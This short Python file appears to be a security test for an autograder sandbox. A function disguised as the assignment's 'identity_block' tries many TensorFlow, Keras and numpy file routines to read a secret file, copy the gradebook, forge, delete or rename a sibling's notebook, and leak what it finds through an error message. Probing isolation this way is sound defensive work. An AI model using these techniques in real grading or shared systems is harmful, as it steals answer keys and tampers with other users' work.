"""Lets TensorFlow's own file system and Keras's downloader read the secret and write to a sibling's notebook."""

import keras
import numpy as np
import tensorflow as tf

ATTACK = True
TRIED = []


def ways():
    from tensorflow.python.lib.io import file_io

    yield lambda: tf.io.read_file(SECRET).numpy()
    yield lambda: tf.io.read_file("file://" + SECRET).numpy()
    yield lambda: next(iter(tf.data.TextLineDataset(SECRET))).numpy()
    yield lambda: next(iter(tf.data.FixedLengthRecordDataset(SECRET, 32))).numpy()
    yield lambda: tf.io.gfile.GFile(SECRET).read()
    yield lambda: file_io.FileIO(SECRET, "r").read()
    yield lambda: open(keras.utils.get_file(origin="file://" + SECRET)).read()
    yield lambda: np.fromfile(SECRET, dtype=np.uint8).tobytes()
    yield lambda: np.memmap(SECRET, mode="r").tobytes()
    yield lambda: tf.io.matching_files(SECRET[:-4] + "*").numpy()
    yield lambda: tf.io.write_file(SIBLING, "forged")
    yield lambda: tf.io.gfile.copy(GRADEBOOK, SIBLING, overwrite=True)
    yield lambda: tf.io.gfile.remove(SIBLING)
    yield lambda: tf.io.gfile.rename(SECRET, "mine.txt", overwrite=True)
    yield lambda: keras.Sequential([keras.layers.Dense(1)]).save(SIBLING + ".keras")
    yield lambda: tf.saved_model.save(tf.Module(), SIBLING + "-model")
    yield lambda: tf.print("forged", output_stream="file://" + SIBLING)


def identity_block(X, f, filters, stage=1, block="a", training=None, initializer=None):
    if ATTACK:
        for way in ways():
            try:
                found = way()
            except Exception as error:
                TRIED.append(f"{type(error).__name__} {error}"[-90:])
            else:
                TRIED.append(f"got {found!r:.60}")
                if found is not None and len(found):
                    raise ValueError(found)
    return X
